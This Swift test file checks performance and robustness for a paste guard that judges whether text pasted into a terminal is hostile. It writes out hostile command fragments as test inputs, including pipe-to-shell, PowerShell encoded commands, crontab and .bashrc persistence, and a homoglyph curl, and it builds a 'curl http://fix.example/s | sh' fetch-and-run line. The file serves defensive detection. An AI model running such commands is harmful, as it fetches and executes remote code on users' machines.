import ProcessorTime
import Testing

@testable import Guard

/// Texts that are made to stop or to slow the guard.
struct HostileInputTests {
  private static let pieces: [String] = [
    "$(((", "`", "'", "\"", "$(", "${a", "${a:-$(b ", "<(", "((", "))", "<<a ", "<<a\n", "<<'a'\n", "#;\n ", " ;# ",
    "\\", "\0", "a$(b)",
    "sh -c '", "eval \"sh -c \\\"", "a=b;$a$a|sh;", "a=$a$a;", "echo a|", "if ", "if;", "{ ", "} ", "cat <(", "\u{1B}[",
    "'a'+",
    "powershell -e ", "iwr 'a b ", "mshta a.exe ", "sudo ", "env -S 'env -S ", "python -c 'exec(\"a b\") '\n",
    "echo '* * * * * a'|crontab;", "alias a='b c';a;", "xargs ", "ssh ssh ", "сurl ", "> .bashrc ", "curl a.b|", "<#",
    "%a:~%",
    "osascript -e 'do shell script \"osascript -e '", "case a in a) ", "$'\\x41", "{a,", "tee a|", "read a;$a|",
  ]

  @Test(arguments: pieces)
  func `anything repeated is judged in linear time`(piece: String) {
    func time(of length: Int) -> Duration {
      let unit = Array(piece.utf8)
      var text: [UInt8] = []
      text.reserveCapacity(length + unit.count)
      while text.count < length { text += unit }
      return ProcessorClock().measure { _ = PasteGuard.assess(Paste(text: text, destination: .terminal)) }
    }
    _ = time(of: 1 << 10)
    let short = time(of: 1 << 14)
    let long = time(of: 1 << 17)
    // Eight times the text; a quadratic reader would take 64 times as long.
    #expect(long < max(short * 24, .milliseconds(300)), "\(short) and \(long)")
  }

  @Test(arguments: ["$(((", "'", "\0"])
  func `a megabyte comes to an end`(piece: String) {
    let text = Array(String(repeating: piece, count: (1 << 20) / piece.utf8.count).utf8)
    let time = ProcessorClock().measure { _ = PasteGuard.assess(Paste(text: text, destination: .terminal)) }
    #expect(time < .seconds(20))
  }

  @Test func `a value that doubles itself comes to an end`() {
    let text =
      "a=xxxxxxxx;" + String(repeating: "a=$a$a;", count: 2_000) + String(repeating: "echo $a|sh;", count: 2_000)
    let time = ProcessorClock().measure { _ = assess(text) }
    #expect(time < .seconds(10))
  }

  @Test func `random bytes and random signs are judged without a trap`() {
    var state: UInt64 = 0x2545_F491_4F6C_DD1D
    let signs = Array(" \n;|&()<>{}[]'\"`$\\#*?!=+-~^%@:/abcdefsh0123456789.,".utf8) + [0, 0x1B, 0x9B, 0xC3, 0xFF]
    for round in 0..<2_000 {
      var text: [UInt8] = []
      for _ in 0..<(round % 200) {
        state ^= state << 13
        state ^= state >> 7
        state ^= state << 17
        text.append(
          round % 5 == 0 ? UInt8(truncatingIfNeeded: state >> 20) : signs[Int((state >> 20) % UInt64(signs.count))])
      }
      _ = PasteGuard.assess(Paste(text: text, destination: .terminal))
      _ = PasteGuard.assess(
        Paste(text: Array("curl http://fix.example/".utf8) + text + Array("|sh".utf8), destination: .relay))
    }
  }

  @Test func `every beginning and every end of every command is judged without a trap`() throws {
    for file in ["malicious-linux.txt", "malicious-windows.txt"] {
      for command in try CommandCorpus(named: file).commands {
        let bytes = Array(command.text.utf8)
        for length in stride(from: 0, through: bytes.count, by: 7) {
          _ = PasteGuard.assess(Paste(text: Array(bytes.prefix(length)), destination: .terminal))
          _ = PasteGuard.assess(Paste(text: Array(bytes.suffix(length)), destination: .terminal))
        }
      }
    }
  }

  @Test func `of a text that is too long the beginning and the end are read, and a reason says so`() {
    let filling = String(repeating: "echo filling\n", count: 1_000)
    for text in ["curl http://fix.example/s | sh\n" + filling, filling + "curl http://fix.example/s | sh"] {
      let assessment = PasteGuard.assess(Paste(text: Array(text.utf8), destination: .terminal), limit: 8_192)
      #expect(assessment.severity == .hold)
      #expect(assessment.reasons.contains { $0.name == Signal.partlyRead.name })
    }
    let assessment = PasteGuard.assess(Paste(text: Array(filling.utf8), destination: .terminal), limit: 8_192)
    #expect(assessment.severity == .none)
  }
}
